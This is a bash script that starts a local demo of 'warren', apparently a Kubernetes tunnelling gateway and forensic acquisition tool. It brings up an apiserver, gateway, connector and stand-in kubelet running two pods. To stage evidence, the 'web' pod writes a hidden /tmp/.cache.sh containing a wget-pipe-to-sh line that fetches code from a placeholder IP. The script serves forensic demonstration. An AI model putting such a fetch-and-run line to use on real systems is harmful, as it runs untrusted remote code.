#!/usr/bin/env bash
# make demo: a real kube-apiserver (+ etcd), a warren gateway and a connector on loopback, the kubelet stand-in
# (internal/testenv/k8s/fakekubelet) running two pods in containers of their own, a caller token and a kubeconfig, and a token
# and a key for warren acquire; prints the kubectl and warren acquire commands to try. Ctrl-C stops everything.
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
cd "$root"
demo="$root/.demo"
port=${WARREN_DEMO_PORT:-8443}
warren="$root/bin/warren"
kubebin=$(scripts/kube-bin.sh)

rm -rf "$demo"
mkdir -p "$demo"
pids=()
cleanup() {
  trap - INT TERM EXIT
  echo
  echo "stopping..."
  for ((i=${#pids[@]}-1; i>=0; i--)); do kill -TERM "${pids[$i]}" 2>/dev/null || true; done
  wait 2>/dev/null || true
  echo "stopped; logs were in $demo"
}
trap cleanup INT TERM EXIT

echo "starting etcd + kube-apiserver $("$kubebin/kubectl" version --client -o json | sed -n 's/.*"gitVersion": "\(.*\)".*/\1/p' | head -1)..."
go build -o "$demo/devcluster" ./internal/testenv/cmd/devcluster
go run ./internal/testenv/cmd/devcert --out "$demo/tls"
"$demo/devcluster" --dir "$demo/kube" >"$demo/devcluster.out" 2>&1 &
pids+=($!)
for _ in $(seq 1 120); do
  [ -f "$demo/kube/env" ] && break
  kill -0 "${pids[0]}" 2>/dev/null || { cat "$demo/devcluster.out"; exit 1; }
  sleep 0.5
done
# shellcheck disable=SC1091
. "$demo/kube/env"

# Two key pairs: the issuer's signs caller and connector tokens; the gateway's own signs the assertion each request
# carries to the connector, which pins its public half.
"$warren" keygen --out "$demo/keys" >/dev/null
"$warren" keygen --out "$demo/gateway-key" >/dev/null
"$warren" gateway --listen "127.0.0.1:$port" --tls-cert "$demo/tls/tls.crt" --tls-key "$demo/tls/tls.key" \
  --issuer-keys "$demo/keys/signing.pub" --connector-keys "$demo/keys/signing.pub" \
  --gateway-key "$demo/gateway-key/signing.key" --clusters demo \
  >"$demo/gateway.log" 2>&1 &
pids+=($!)
"$warren" token connector --key "$demo/keys/signing.key" --cluster demo >"$demo/connector.token"
"$warren" connector --gateway "https://127.0.0.1:$port" --token-file "$demo/connector.token" \
  --gateway-keys "$demo/gateway-key/signing.pub" \
  --ca-file "$demo/tls/ca.crt" --kubeconfig "$CONNECTOR_KUBECONFIG" --name demo-connector --state-dir "$demo/connector-state" \
  >"$demo/connector.log" 2>&1 &
pids+=($!)

token=$("$warren" token issue --key "$demo/keys/signing.key" --subject demo-responder --cluster demo \
  --rule '*:*' --ttl 12h)
"$warren" kubeconfig --gateway "https://127.0.0.1:$port" --cluster demo --ca-file "$demo/tls/ca.crt" \
  --token "$token" --out "$demo/kubeconfig"

for _ in $(seq 1 60); do
  if "$KUBECTL" --kubeconfig "$demo/kubeconfig" get --raw /version >/dev/null 2>&1; then break; fi
  for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null || { echo "a process died; see $demo/*.log"; tail -5 "$demo"/*.log; exit 1; }; done
  sleep 0.5
done
"$KUBECTL" --kubeconfig "$demo/kubeconfig" get --raw /version >/dev/null

# The kubelet stand-in registers node demo-node and runs the pods bound to it (images from scripts/rootfs.sh).
echo "starting the kubelet stand-in and two pods..."
"$kubebin/fakekubelet" --kubeconfig "$ADMIN_KUBECONFIG" --node-name demo-node --listen 127.0.0.1:0 \
  --ready-file "$demo/kubelet.ready" --root-dir "$demo/kubelet" --cert-dir "$demo/kubelet-pki" \
  >"$demo/kubelet.log" 2>&1 &
pids+=($!)
for _ in $(seq 1 120); do
  [ -s "$demo/kubelet.ready" ] && break
  kill -0 "${pids[-1]}" 2>/dev/null || { tail -20 "$demo/kubelet.log"; exit 1; }
  sleep 0.5
done
"$KUBECTL" --kubeconfig "$ADMIN_KUBECONFIG" apply -f - >/dev/null <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: default, labels: {app: demo}}
spec:
  nodeName: demo-node
  terminationGracePeriodSeconds: 0
  containers:
  - name: main
    image: busybox
    env: [{name: API_TOKEN, value: not-a-real-secret}]
    command: [sh, -c, 'printf "#!/bin/sh\nwget -qO- http://203.0.113.9/x | sh\n" > /tmp/.cache.sh; exec sleep infinity']
---
apiVersion: v1
kind: Pod
metadata: {name: db, namespace: default, labels: {app: demo}}
spec:
  nodeName: demo-node
  terminationGracePeriodSeconds: 0
  containers:
  - name: main
    image: debian
    command: [sleep, infinity]
YAML
"$KUBECTL" --kubeconfig "$ADMIN_KUBECONFIG" wait --for=condition=Ready pod/web pod/db --timeout=120s >/dev/null

# warren acquire: a token with exactly the rules it needs, and the examiner's own key for the statements.
"$warren" token issue --key "$demo/keys/signing.key" --subject demo-examiner --cluster demo --ttl 12h \
  --preset acquire --namespace default >"$demo/acquire.token" 2>/dev/null
"$warren" keygen --out "$demo/examiner" >/dev/null 2>&1

cat <<MSG

warren demo is up:
  kube-apiserver  $KUBE_URL               (etcd + apiserver logs: $demo/kube/cluster.log)
  gateway         https://127.0.0.1:$port   (log: $demo/gateway.log)
  connector       dialled out to the gateway     (log: $demo/connector.log)

kubectl reaches the cluster only through the tunnel (the kubeconfig names the gateway, with a caller token):

  export KUBECONFIG=$demo/kubeconfig
  $KUBECTL get pods -A
  $KUBECTL get namespaces
  $KUBECTL create configmap evidence --from-literal=case=ir-42
  $KUBECTL get configmaps --watch

Two pods run on the kubelet stand-in, each in a container of its own (busybox and debian root filesystems):

  $KUBECTL exec -it web -- sh
  $KUBECTL logs db

Acquire both (the collector goes in over exec, every byte hashed, each target signed), then verify:

  $warren acquire web db -n default --out $demo/case-1 --case demo-1 --examiner "\$USER" \\
    --gateway https://127.0.0.1:$port --cluster demo --ca-file $demo/tls/ca.crt --token-file $demo/acquire.token \\
    --signing-key $demo/examiner/signing.key
  $warren acquire verify $demo/case-1 --key $demo/examiner/signing.pub

  (the token's rules: $warren token issue --preset acquire --namespace default --print-rules)

Stop the connector (kill \$(pgrep -f 'warren connector')) and kubectl answers 503 at once.
Ctrl-C stops everything.
MSG
wait "${pids[0]}"
